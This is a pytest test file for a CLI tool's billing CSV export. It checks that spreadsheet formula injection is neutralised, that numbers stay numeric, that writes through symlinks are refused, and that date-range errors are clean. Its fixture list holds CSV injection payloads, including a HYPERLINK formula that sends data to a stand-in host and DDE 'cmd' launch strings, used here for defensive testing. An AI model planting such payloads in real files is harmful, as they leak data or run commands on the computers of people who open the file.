"""What finance opens and what a user types: a CSV export never carries a cell a spreadsheet
would run as a formula (a VM named ``=HYPERLINK(...)``), while numbers stay numbers; a duration
or a date beyond what pandas represents is one line naming the option, not "Out of bounds
nanosecond timestamp"."""

from __future__ import annotations

import csv
import io
import os
import stat

import pandas as pd
import pytest

from svcnb.cli import main
from svcnb.reports import billing

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_cell_a_spreadsheet_would_run_is_written_as_text():
    frame = pd.DataFrame(
        {
            "name": pd.array([*FORMULAS, "web-1"], dtype="string"),
            "notes": [*FORMULAS, "plain"],
        }
    )
    rows = _cells(billing.export_csv(frame))
    assert rows[0] == ["name", "notes"]
    for row, given in zip(rows[1:], [*FORMULAS, None], strict=True):
        if given is None:
            assert row == ["web-1", "plain"]
            continue
        assert row == ["'" + given, "'" + given], row


def test_numbers_stay_numbers_a_negative_one_included():
    frame = pd.DataFrame(
        {
            "ratio": [-12.5, 3.0],
            "count": pd.array([-3, 4], dtype="Int64"),
            "as_text": ["-12.50", "+3"],
        }
    )
    rows = _cells(billing.export_csv(frame))
    assert rows[1] == ["-12.5", "-3", "-12.50"]
    assert rows[2] == ["3.0", "4", "+3"]


def test_an_export_to_a_file_is_whole_and_never_through_a_link(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1"]})
    out = tmp_path / "out.csv"
    billing.export_csv(frame, out)
    assert _cells(out.read_text()) == [["name"], ["'=1+1"]]
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    precious = tmp_path / "precious.txt"
    precious.write_text("keep\n")
    link = tmp_path / "linked.csv"
    link.symlink_to(precious)
    with pytest.raises(OSError, match="symbolic link"):
        billing.export_csv(frame, link)
    assert precious.read_text() == "keep\n"


def test_cli_export_neutralises_a_vm_named_as_a_formula(sandbox, tmp_path, capsys):
    from svcnb import Client
    from svcnb.store import Store

    sandbox.control.reset(seed=7, vms=3)
    named = FORMULAS[0]
    created = sandbox.control.create_vm(name=named)
    sandbox.control.advance(3600)  # provisioned, and billed: overdue, as a new VM is here
    assert sandbox.control.vm(created["id"])["billing"]["status"] == "overdue"
    store = Store(tmp_path / "store")
    with Client(sandbox.tokens["admin"], sandbox.base_url, progress=False) as client:
        store.take(client)
    out = tmp_path / "overdue.csv"
    code = main(
        [
            "report", "billing", "--store", str(store.path), "--format", "csv",
            "--table", "overdue", "--out", str(out),
        ]
    )  # fmt: skip
    capsys.readouterr()
    assert code == 0
    cells = [cell for row in _cells(out.read_text()) for cell in row]
    assert "'" + named in cells, cells  # the VM is there, as text
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    old = os.umask(0o022)
    os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~old


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--within", "100000"),
        ("--within", "300000d"),
        ("--at", "2262-05-01"),
        ("--at", "1600-01-01"),
        ("--at", "99999-01-01"),
    ],
)
def test_a_time_beyond_pandas_is_one_line_naming_the_option(played, capsys, option, value):
    store, _ = played
    code = main(["report", "billing", "--store", str(store.path), option, value])
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2, err
    assert len(lines) == 1 and "Traceback" not in err, err
    assert option in lines[0] and "Out of bounds" not in lines[0], lines[0]
    assert "2262" in lines[0], lines[0]
